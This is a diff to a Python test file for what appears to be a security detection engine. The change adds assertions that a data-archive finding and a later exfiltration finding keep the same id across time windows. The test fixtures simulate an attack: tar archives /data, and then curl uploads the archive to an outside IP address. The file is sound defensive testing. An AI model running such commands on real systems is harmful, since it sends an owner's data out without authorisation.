@@ -89,7 +89,7 @@ def test_transfer_from_another_container_does_not_correlate() -> None:
     assert found[0].severity_id == 2
 
 
-def test_transfer_after_the_window_does_not_correlate() -> None:
+def test_transfer_after_the_window() -> None:
     ctr = container()
     found = run(
         [
@@ -107,6 +107,18 @@ def test_transfer_after_the_window_does_not_correlate() -> None:
         ]
     )
     assert [f.analytic.uid for f in named] == [CREATED, EXFIL]
+    # Within the update window it is late evidence of the archive's finding: the same uid.
+    assert [f.revision for f in named] == [0, 1]
+    assert named[0].uid == named[1].uid
+    later = run(
+        [
+            launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr),
+            launch("curl -T /tmp/a.tgz https://203.0.113.5/u", time=1000 + 900 + 1801, ctr=ctr),
+        ]
+    )
+    # Beyond it, the name still joins them (for a day): an update of the same finding.
+    assert [(f.analytic.uid, f.revision) for f in later] == [(CREATED, 0), (EXFIL, 1)]
+    assert later[0].uid == later[1].uid
     longer = run(
         [
             launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr),
